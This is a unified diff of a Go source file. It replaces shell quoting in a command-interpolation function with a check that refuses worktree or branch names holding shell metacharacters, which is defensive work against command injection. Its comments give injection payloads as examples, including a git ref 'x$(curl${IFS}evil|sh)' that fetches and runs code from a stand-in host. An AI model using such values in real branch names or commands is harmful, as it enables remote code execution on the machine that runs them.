@@ -1,8 +1,8 @@
 package world
 
 import (
+	"fmt"
 	"strings"
-	"unicode/utf8"
 )
 
 // Lookup resolves the inside of a ${...} token ("api.port", "env.HOME"). It
@@ -14,135 +14,119 @@ type Lookup func(ref string) (string, bool)
 // Interpolate replaces every ${ref} in s that lookup knows. "$${" writes a
 // literal "${". It never fails: malformed or unknown tokens stay as written.
 func Interpolate(s string, lookup Lookup) string {
-	return interpolate(s, lookup, nil)
-}
-
-// InterpolateShell is Interpolate for a command that /bin/sh runs: every
-// value but ${env.*}'s reaches the shell as the literal text it is,
-// quoted for where the token stands (bare, in '...' or in "..."). A
-// branch named 'x$(touch${IFS}pwned)' is a legal git ref, and a
-// worktree's path may hold spaces or quotes: pasted raw, they would run
-// as shell code through an approved, unchanged binky.toml. Values of only
-// plain characters (ports, slice names, most URLs and branches) are
-// written as they are. ${env.NAME} is the caller's own environment and
-// stays raw, so that a variable of flags still splits into words.
-func InterpolateShell(s string, lookup Lookup) string {
-	var q shellQuoter
-	return interpolate(s, lookup, &q)
-}
-
-func interpolate(s string, lookup Lookup, q *shellQuoter) string {
 	if !strings.Contains(s, "${") {
 		return s
 	}
 	var b strings.Builder
 	b.Grow(len(s))
-	literal := func(t string) {
-		b.WriteString(t)
-		if q != nil {
-			q.scan(t)
-		}
-	}
 	for {
 		i := strings.Index(s, "${")
 		if i < 0 {
-			literal(s)
+			b.WriteString(s)
 			return b.String()
 		}
 		if i > 0 && s[i-1] == '$' {
 			// "$${" is an escaped "${".
-			literal(s[:i-1])
-			literal("${")
+			b.WriteString(s[:i-1])
+			b.WriteString("${")
 			s = s[i+2:]
 			continue
 		}
-		literal(s[:i])
+		b.WriteString(s[:i])
 		end := strings.IndexByte(s[i+2:], '}')
 		if end < 0 {
-			literal(s[i:])
+			b.WriteString(s[i:])
 			return b.String()
 		}
 		ref := s[i+2 : i+2+end]
-		if v, ok := lookup(ref); !ok {
-			literal(s[i : i+3+end])
-		} else if q != nil && !strings.HasPrefix(ref, "env.") {
-			b.WriteString(q.quote(v))
+		if v, ok := lookup(ref); ok {
+			b.WriteString(v)
 		} else {
-			literal(v)
+			b.WriteString(s[i : i+3+end])
 		}
 		s = s[i+3+end:]
 	}
 }
 
-// shellQuoter follows a POSIX shell command's quoting as it is written,
-// so that a value put in at any point can be quoted for that point.
-// Command substitutions are not followed: a value inside one is quoted
-// for the quotes around it, which still never lets it run.
-type shellQuoter struct {
-	state   byte // 0 bare, '\'' or '"'
-	escaped bool // the previous character was a backslash outside '...'
+// InterpolateShell is Interpolate for a command that /bin/sh runs.
+// Worktree names, branches and paths are chosen outside the approved
+// binky.toml: an agent may name a branch after an issue's title, and git
+// accepts 'x$(curl${IFS}evil|sh)' as a ref. Pasted into a command, a
+// character a shell reads as code would run as code, and no quoting is
+// right everywhere a token may stand (a heredoc, "$(...)", sh -c '...').
+// So a command whose ${worktree.*} token (or an ${env.NAME} whose value
+// carries such a name, as BINKY_WORKTREE does) holds such a character is
+// refused, with the way that is always safe: the shell's own variable,
+// "$BINKY_BRANCH", which a shell never reads as code. Names of plain
+// characters, spaces and non-ASCII letters (all real ones) are written
+// as they are, as Interpolate does.
+func InterpolateShell(s string, lookup Lookup) (string, error) {
+	var tainted []string
+	for _, ref := range worktreeTokens {
+		if v, ok := lookup(ref); ok && !inert(v) {
+			tainted = append(tainted, v)
+		}
+	}
+	if len(tainted) > 0 {
+		for _, ref := range Tokens(s) {
+			v, ok := lookup(ref)
+			if !ok {
+				continue
+			}
+			name, isEnv := strings.CutPrefix(ref, "env.")
+			if !isEnv && !inert(v) && strings.HasPrefix(ref, "worktree.") {
+				name = shellVariables[ref]
+			} else if !isEnv || !carries(v, tainted) {
+				continue
+			}
+			return "", &UnsafeTokenError{Token: ref, Value: v, Variable: name}
+		}
+	}
+	return Interpolate(s, lookup), nil
 }
 
-func (q *shellQuoter) scan(t string) {
-	for i := 0; i < len(t); i++ {
-		c := t[i]
-		if q.escaped {
-			q.escaped = false
-			continue
-		}
-		switch q.state {
-		case 0:
-			switch c {
-			case '\\':
-				q.escaped = true
-			case '\'', '"':
-				q.state = c
-			}
-		case '\'':
-			if c == '\'' {
-				q.state = 0
-			}
-		case '"':
-			switch c {
-			case '\\':
-				q.escaped = true
-			case '"':
-				q.state = 0
-			}
-		}
-	}
+// worktreeTokens are the tokens whose values are names chosen outside
+// binky.toml, and shellVariables what a command says instead.
+var (
+	worktreeTokens = []string{"worktree.name", "worktree.branch", "worktree.path"}
+	shellVariables = map[string]string{"worktree.name": "BINKY_WORKTREE", "worktree.branch": "BINKY_BRANCH", "worktree.path": "BINKY_WORKTREE_PATH"}
+)
+
+// UnsafeTokenError is a command refused because a token's value would be
+// read by the shell as code.
+type UnsafeTokenError struct {
+	Token, Value, Variable string
 }
 
-// quote is v as a literal where the command now stands.
-func (q *shellQuoter) quote(v string) string {
-	escaped := q.escaped
-	q.escaped = false // a backslash just before the token escapes the value's first character
-	if plain(v) {
-		return v
-	}
-	switch q.state {
-	case '\'':
-		return strings.ReplaceAll(v, "'", `'\''`)
-	case '"':
-		var b strings.Builder
-		if escaped && strings.IndexByte("\\$`\"", v[0]) >= 0 {
-			// The backslash before the token already escapes this one.
-			b.WriteByte(v[0])
-			v = v[1:]
+func (e *UnsafeTokenError) Error() string {
+	return fmt.Sprintf("${%s} is %q, which a shell would read as code (it holds %q), so binky does not paste it into a command: "+
+		"write \"$%s\" there instead (the shell's own variable, never read as code), or rename the worktree or branch",
+		e.Token, e.Value, firstUnsafe(e.Value), e.Variable)
+}
+
+// inert reports whether v means only itself to a shell wherever it is
+// pasted: plain characters, spaces and bytes of non-ASCII letters.
+func inert(v string) bool {
+	return firstUnsafe(v) == ""
+}
+
+func firstUnsafe(v string) string {
+	for i := 0; i < len(v); i++ {
+		if c := v[i]; c != ' ' && c < 0x80 && !plain(v[i:i+1]) {
+			return v[i : i+1]
 		}
-		for i := 0; i < len(v); i++ { // bytes: a path need not be UTF-8
-			if c := v[i]; c == '\\' || c == '$' || c == '`' || c == '"' {
-				b.WriteByte('\\')
-			}
-			b.WriteByte(v[i])
+	}
+	return ""
+}
+
+// carries reports whether v holds any of the names.
+func carries(v string, names []string) bool {
+	for _, n := range names {
+		if n != "" && strings.Contains(v, n) {
+			return true
 		}
-		return b.String()
 	}
-	if escaped {
-		_, n := utf8.DecodeRuneInString(v)
-		return v[:n] + "'" + strings.ReplaceAll(v[n:], "'", `'\''`) + "'"
-	}
-	return "'" + strings.ReplaceAll(v, "'", `'\''`) + "'"
+	return false
 }
 
 // plain reports whether v means the same to a shell in every position:
